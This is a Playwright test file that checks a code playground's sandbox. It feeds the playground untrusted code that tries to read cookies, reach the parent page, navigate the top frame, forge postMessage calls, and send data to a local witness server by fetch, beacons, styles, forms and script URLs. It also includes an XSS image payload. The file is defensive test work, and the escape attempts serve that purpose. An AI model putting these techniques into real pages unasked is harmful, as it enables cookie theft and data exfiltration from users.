import {
  getResult,
  HELLO,
  openCode,
  readOutcome,
  replaceCode,
  startWitness,
  tries,
  tryAll,
  waitForEnd,
  waitForStatus,
} from './support/playground.ts';
import type { Witness } from './support/playground.ts';
import { expect, test } from './support/test.ts';

/** Anyone can send code in a link. In each test, such code tries one way to escape, and the test checks that it failed. */
test.describe('hostile code @desktop', () => {
  // The browser logs what it refuses.
  test.use({ expectedNoise: [/./s] });

  let witness: Witness;
  test.beforeEach(async () => {
    witness = await startWitness();
  });
  test.afterEach(() => witness.close());

  test('would reach the witness if it got out', async ({ page }) => {
    await page.goto(witness.url);
    expect(witness.requests).toContain('GET /');
  });

  test('reads and sets no cookies', async ({ page, context, baseURL }) => {
    await context.addCookies([{ name: 'secret', value: 'kelp', url: baseURL ?? '' }]);
    await openCode(page, tries(`return document.cookie`));
    expect(await readOutcome(page)).toBe('REFUSED SecurityError');
    await openCode(page, tries(`document.cookie = 'planted=1; path=/'; return 'set'`));
    await readOutcome(page);
    expect((await context.cookies()).map(({ name }) => name)).not.toContain('planted');
  });

  test('has no storage', async ({ page }) => {
    const outcomes = await tryAll(page, {
      localStorage: `return localStorage.getItem('mui-mode')`,
      sessionStorage: `return sessionStorage.length`,
      indexedDB: `return await new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = resolve; open.onerror = () => reject(open.error); })`,
      caches: `return await caches.keys()`,
      directory: `return await navigator.storage.getDirectory()`,
      serviceWorker: `return await navigator.serviceWorker.getRegistrations()`,
    });
    for (const outcome of outcomes) expect(outcome).toMatch(/^REFUSED/);
  });

  test('does not reach the page', async ({ page }) => {
    const outcomes = await tryAll(page, {
      'parent.document': `return parent.document.title`,
      'top.document': `return top!.document.body`,
      'parent.localStorage': `return parent.localStorage`,
      'parent.location': `return parent.location.href`,
      'parent.history': `return (parent as any).history`,
      frameElement: `return frameElement!.ownerDocument`,
    });
    for (const outcome of outcomes) expect(outcome).toMatch(/^REFUSED/);
  });

  for (const [name, attempt] of Object.entries({
    'top.location': `top!.location.href = URL`,
    'parent.location.replace': `parent.location.replace(URL)`,
    'a link to _top': `Object.assign(document.createElement('a'), { href: URL, target: '_top' }).click()`,
    'a form to _top': `const form = Object.assign(document.createElement('form'), { action: URL, target: '_top' }); document.body.append(form); form.submit()`,
    history: `history.back(); history.go(-1)`,
  })) {
    test(`does not navigate the page: ${name}`, async ({ page }) => {
      await page.goto('/x/introduction/');
      await openCode(page, tries(attempt.replaceAll('URL', JSON.stringify(witness.url))));
      await readOutcome(page);
      await page.waitForTimeout(500);
      await expect(page).toHaveURL(/\/playground\/#code=/);
      expect(witness.requests).toEqual([]);
    });
  }

  test('has no network', async ({ page }) => {
    const URL = `const URL = ${JSON.stringify(witness.url)};`;
    const attempts = {
      fetch: `return await fetch(URL)`,
      'fetch without CORS': `return await fetch(URL, { mode: 'no-cors', keepalive: true })`,
      'fetch of its own site': `return await fetch('/x/live/imports.json')`,
      XMLHttpRequest: `return await new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open('GET', URL); request.onload = resolve; request.onerror = () => reject(new Error('no')); request.send(); })`,
      WebSocket: `return await new Promise((resolve, reject) => { const socket = new WebSocket(URL.replace('http', 'ws')); socket.onopen = resolve; socket.onerror = () => reject(new Error('no')); })`,
      EventSource: `return await new Promise((resolve, reject) => { const source = new EventSource(URL); source.onopen = resolve; source.onerror = () => reject(new Error('no')); })`,
      'an image': `return await new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error('no')); image.src = URL + '/image'; })`,
      'a script': `return await new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = resolve; script.onerror = () => reject(new Error('no')); script.src = URL + '/a.js'; document.head.append(script); })`,
      'an import': `return await import(String(URL + '/a.js'))`,
      'a worker': `return new Worker(URL.slice(0, 0) + window.URL.createObjectURL(new Blob(['fetch("' + URL + '")'])))`,
      'a peer connection': `return new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] })`,
      eval: `return (0, eval)('1 + 1')`,
    };
    const outcomes = await tryAll(page, attempts, URL);
    for (const outcome of outcomes) {
      // The browser creates the worker and then refuses to run it.
      if (!outcome.includes('a worker')) expect(outcome).toMatch(/^REFUSED/);
    }
    await page.waitForTimeout(300);
    expect(witness.requests).toEqual([]);
  });

  test('sends nothing by elements and styles', async ({ page }) => {
    const URL = `const URL = ${JSON.stringify(witness.url)};`;
    const attempts = {
      'a beacon': `navigator.sendBeacon(URL, 'x')`,
      'a background': `document.body.style.background = 'url(' + URL + '/background)'`,
      'a style sheet': `document.head.append(Object.assign(document.createElement('style'), { textContent: '@import "' + URL + '/a.css"; @font-face { font-family: f; src: url(' + URL + '/f.woff2) } body { font-family: f; cursor: url(' + URL + '/c.png), auto }' }))`,
      'a frame': `document.body.append(Object.assign(document.createElement('iframe'), { src: URL + '/frame' }))`,
      'an object': `document.body.append(Object.assign(document.createElement('object'), { data: URL + '/object' }))`,
      'a video': `document.body.append(Object.assign(document.createElement('video'), { src: URL + '/video', autoplay: true }))`,
      markup: `document.body.insertAdjacentHTML('beforeend', '<img src="' + URL + '/m"><svg><image href="' + URL + '/s"/></svg><link rel="stylesheet" href="' + URL + '/l"><link rel="prefetch" href="' + URL + '/p">')`,
      'a ping': `const link = Object.assign(document.createElement('a'), { href: '#x', ping: URL }); document.body.append(link); link.click()`,
      'a download': `const link = Object.assign(document.createElement('a'), { href: URL + '/d', download: 'd' }); document.body.append(link); link.click()`,
    };
    await tryAll(page, attempts, URL);
    await page.waitForTimeout(800);
    expect(witness.requests).toEqual([]);
  });

  test('sends nothing by a form', async ({ page }) => {
    const submit = `const form = Object.assign(document.createElement('form'), { action: URL, method: 'post' }); document.body.append(form); form.submit()`;
    await openCode(page, tries(`const URL = ${JSON.stringify(witness.url)}; ${submit}`));
    await waitForEnd(page);
    await page.waitForTimeout(800);
    expect(witness.requests).toEqual([]);
  });

  test('creates no link element, which could open connections', async ({ page }) => {
    await openCode(
      page,
      tries(`
        const made = [document.createElement('LINK'), document.createElementNS('http://www.w3.org/1999/xhtml', 'a:link')];
        const box = document.createElement('div');
        box.innerHTML = '<lInK rel="preconnect">';
        made.push(box.firstElementChild!);
        made.push(new DOMParser().parseFromString('<link rel="preconnect">', 'text/html').head.firstElementChild!);
        made.push(new DOMParser().parseFromString('<link xmlns="http://www.w3.org/1999/xhtml"/>', 'application/xhtml+xml').documentElement);
        (box as any).setHTML?.('<link rel="preconnect">', { sanitizer: { elements: ['link'] } });
        return made.filter((element) => element instanceof HTMLLinkElement).length + box.querySelectorAll('link').length;
      `),
    );
    expect(await readOutcome(page)).toBe('DONE 0');
  });

  for (const [name, attempt] of Object.entries({
    'window.open': `return window.open(URL, '_blank') === null ? 'none' : 'opened'`,
    'a link to _blank': `Object.assign(document.createElement('a'), { href: URL, target: '_blank' }).click(); return 'none'`,
  })) {
    test(`opens no window: ${name}`, async ({ page, context }) => {
      await openCode(page, tries(`const URL = ${JSON.stringify(witness.url)}; ${attempt}`));
      expect(await readOutcome(page)).toBe('DONE none');
      await page.waitForTimeout(300);
      expect(context.pages()).toHaveLength(1);
      expect(witness.requests).toEqual([]);
    });
  }

  for (const [name, attempt] of Object.entries({
    'location.href': `location.href = URL`,
    'location.replace': `location.replace(URL)`,
    'a refresh': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + URL }))`,
    'a link': `const link = Object.assign(document.createElement('a'), { href: URL }); document.body.append(link); link.click()`,
    'a blob': `location.href = window.URL.createObjectURL(new Blob(['<script>fetch("' + URL + '")</script>'], { type: 'text/html' }))`,
    data: `location.href = 'data:text/html,<img src="' + URL + '">'`,
    javascript: `location.href = 'javascript:fetch("' + URL + '")'`,
  })) {
    test(`does not navigate its frame: ${name}`, async ({ page }) => {
      await openCode(
        page,
        tries(
          `const URL = ${JSON.stringify(witness.url)}; await new Promise((go) => setTimeout(go, 300)); ${attempt}`,
        ),
      );
      await expect(page.locator('[data-status]')).toHaveText(/Up to date|Stopped/, {
        timeout: 30_000,
      });
      await page.waitForTimeout(1500);
      expect(witness.requests).toEqual([]);
      if (name.startsWith('location')) {
        await expect(page.getByRole('alert')).toContainText('tried to leave its frame');
      }
      await expect(page).toHaveURL(/\/playground\/#code=/);
      // The page still works: other code runs.
      await replaceCode(page, HELLO);
      await expect(getResult(page).getByText('Hello')).toBeVisible({ timeout: 30_000 });
    });
  }

  test('gets no fresh globals from a new frame', async ({ page }) => {
    await openCode(
      page,
      tries(`
        const frame = document.createElement('iframe');
        document.body.append(frame);
        return new (frame.contentWindow as any).RTCPeerConnection();
      `),
    );
    expect(await readOutcome(page)).toMatch(/^REFUSED/);
  });

  test('loads no scripts of the site other than the live modules', async ({ page }) => {
    await page.goto('/playground/');
    const script = await page.locator('script[type=module][src]').first().getAttribute('src');
    expect(script).toBeTruthy();
    await openCode(
      page,
      tries(`return await new Promise((resolve, reject) => {
        const script = document.createElement('script');
        script.onload = resolve;
        script.onerror = () => reject(new Error('no'));
        script.src = new URL(${JSON.stringify(script)}, location.href).href;
        document.head.append(script);
      })`),
    );
    await page.reload();
    expect(await readOutcome(page)).toBe('REFUSED Error');
  });

  test('shows no dialog', async ({ page }) => {
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await openCode(page, tries(`alert('x'); return confirm('x')`));
    expect(await readOutcome(page)).toBe('DONE false');
    expect(dialogs).toBe(0);
  });

  test('sends no message that the page acts on', async ({ page }) => {
    await openCode(
      page,
      tries(`
        const id = location.hash.slice(1);
        parent.postMessage({ type: 'console', id, level: 'log', text: ['FORGED'] }, '*');
        parent.postMessage({ type: 'height', id, height: 1e12 }, '*');
        parent.postMessage({ type: 'console', id: 'other', level: 'log', text: 'FORGED' }, '*');
        parent.postMessage({ type: 'run', id, program: { files: [] }, look: { kind: 'plain' } }, '*');
        parent.postMessage('<img src=x onerror=alert(1)>', '*');
        return 'sent';
      `),
    );
    expect(await readOutcome(page)).toBe('DONE sent');
    await expect(page.getByRole('log')).not.toContainText('FORGED');
    await waitForStatus(page, 'Up to date');
  });

  test('does not run in a frame without a sandbox', async ({ page }) => {
    await page.goto('/x/introduction/');
    const ran = await page.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.src = '/playground/frame/#abc';
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve));
      const parts = ['top.document.title = "TAKEN"; export default () => null;'];
      for (let count = 0; count < 20; count += 1) {
        const program = { files: [{ name: 'Demo.tsx', parts }] };
        frame.contentWindow?.postMessage(
          { type: 'run', id: 'abc', program, look: { kind: 'plain' } },
          '*',
        );
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      return document.title;
    });
    expect(ran).not.toBe('TAKEN');
  });
});
